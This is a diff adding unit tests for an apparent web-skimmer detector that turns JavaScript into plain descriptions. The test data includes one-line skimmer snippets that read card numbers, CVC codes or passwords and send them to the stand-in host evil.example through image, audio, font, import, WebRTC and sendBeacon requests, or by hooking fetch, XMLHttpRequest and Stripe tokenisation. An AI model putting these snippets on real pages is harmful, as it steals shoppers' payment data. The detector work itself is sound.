@@ -56,7 +56,39 @@ public sealed class ScriptFlowTests
     [InlineData("var f = document.createElement('iframe'); f.src = `https://evil.example/${document.querySelector('#cc-number').value}`", "Reads #cc-number and sends to evil.example by a frame.")]
     [InlineData("document.querySelector('#payment-form').action = 'https://evil.example/take'", "Sends to evil.example by changing where a form goes.")]
     [InlineData("if (/checkout|onepage/.test(location.href) && page('checkout')) { var s = document.createElement('script'); s.src = 'https://evil.example/x.js' }", "Looks whether the page is checkout and brings a script of evil.example.")]
+    [InlineData("import('https://evil.example/m.js?' + document.querySelector('#cc-number').value)", "Reads #cc-number and sends to evil.example by import.")]
+    [InlineData("new Audio('https://evil.example/a.mp3?' + document.querySelector('#cc-number').value).load()", "Reads #cc-number and sends to evil.example by an audio request.")]
+    [InlineData("document.images[0].src = 'https://evil.example/k.gif?k=' + document.querySelector('#cc-number').value", "Reads #cc-number and sends to evil.example by an image request.")]
+    [InlineData("document.body.style.backgroundImage = 'url(https://evil.example/b.png?' + document.querySelector('#cc-number').value + ')'", "Reads #cc-number and sends to evil.example by an image request.")]
+    [InlineData("new FontFace('f', 'url(\"https://evil.example/f.woff?' + document.querySelector('#cc-number').value + '\")').load()", "Reads #cc-number and sends to evil.example by a font request.")]
+    [InlineData("new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example:3478', username: document.querySelector('#cc-number').value }] })", "Reads username, #cc-number and sends to evil.example:3478 by RTCPeerConnection.")]
     public void Say_Skimmer_NamesSourceAndSink(string code, string sentence) => Of(code)!.Value.Sentence.ShouldBe(sentence);
+
+    /// <summary>A text that names elements is no event, and what a request or an image is done with is none of the page.</summary>
+    [Theory]
+    [InlineData("$('body').on('change', 'input', function () { fetch('https://evil.example/' + this.value, cc_number) })", "on change and")]
+    [InlineData("document.createElement('input'); fetch('https://evil.example/' + cc_number)", "cc_number and")]
+    [InlineData("var x = new XMLHttpRequest(); x.onload = done; x.send('https://evil.example/', cc_number)", "cc_number and")]
+    [InlineData("img.addEventListener('load', done); fetch('https://evil.example/', cc_number)", "cc_number and")]
+    [InlineData("window.onload = function () { fetch('https://evil.example/', cc_number) }", "cc_number on load and")]
+    [InlineData("document.addEventListener('input', function () { fetch('https://evil.example/', cc_number) })", "cc_number on input and")]
+    public void Say_Occasion_IsAnEventOfThePage(string code, string part) => Of(code)!.Value.Sentence.ShouldContain(part);
+
+    /// <summary>What the script stands in the place of is called on, and no way out; what passes there has no name.</summary>
+    [Theory]
+    [InlineData("const real = window.fetch; window.fetch = function (u, o) { var f = document.createElement('form'); f.action = 'https://evil.example/f'; h.value = btoa(o.body); return real.call(this, u, o) }", "Puts itself in the place of window.fetch, makes text (btoa) and sends to evil.example by changing where a form goes.")]
+    [InlineData("(function (p) { var o = p.send; p.send = function (b) { navigator.sendBeacon('https://evil.example/b', b); return o.apply(this, arguments) } })(XMLHttpRequest.prototype)", "Puts itself in the place of XMLHttpRequest.prototype.send and sends to evil.example by sendBeacon.")]
+    [InlineData("client.send = function (b) { navigator.sendBeacon('https://evil.example/b', btoa(b)) }", "Makes text (btoa) and sends to evil.example by sendBeacon.")]
+    [InlineData("var c = Stripe.card.createToken; Stripe.card.createToken = function (card, done) { fetch('https://evil.example/' + card.cvc); return c.call(Stripe.card, card, done) }", "Puts itself in the place of Stripe.card.createToken, reads cvc and sends to evil.example by fetch.")]
+    [InlineData("parent.postMessage(document.querySelectorAll('input'), '*'); listen(function (m) { navigator.sendBeacon('https://evil.example/b', m.data) })", "Reads all input fields and sends to evil.example by a message to another window, sendBeacon.")]
+    [InlineData("var f = document.forms.namedItem('l'); fetch('https://evil.example/' + f.elements['password'].value)", "Reads password and sends to evil.example by fetch.")]
+    public void Say_WhatIsReplaced_IsNoSink(string code, string sentence) => Of(code)!.Value.Sentence.ShouldBe(sentence);
+
+    /// <summary>A constant that is brought in takes nothing away.</summary>
+    [Theory]
+    [InlineData("new Audio('https://cdn.example/ding.mp3').play(); document.querySelector('#cc-number').value", "an audio request")]
+    [InlineData("import('https://cdn.example/m.js'); fetch('https://api.example/' + document.querySelector('#cc-number').value)", "import")]
+    public void Say_ConstantAddress_IsNoSink(string code, string sink) => (Of(code)?.Sentence ?? "").ShouldNotContain(sink);
 
     /// <summary>A method, a setting or a file of such a name is no field.</summary>
     [Theory]
@@ -66,6 +98,8 @@ public sealed class ScriptFlowTests
     [InlineData("stripe.create({ cvc: 'Security code', zip: true }); fetch('https://api.example/')")]
     [InlineData("client.username = options; fetch('https://api.example/')")]
     [InlineData("fetch('https://api.example/', new FormData())")]
+    [InlineData("fetch('https://api.example/').then(a => { document.getElementById('city').value = a.town; form.street.value = a.line; $('#zip').val(a.code) })")]
+    [InlineData("if (e.target.type === 'password' || 'password' === e.target.type) return; fetch('https://api.example/')")]
     [InlineData("document.addEventListener('click', e => e.key); fetch('https://api.example/')")]
     public void Say_NamesThatReadNoField_AreNotSaidToBeRead(string code) => Of(code)!.Value.Sentence.ShouldNotContain("Reads");
 
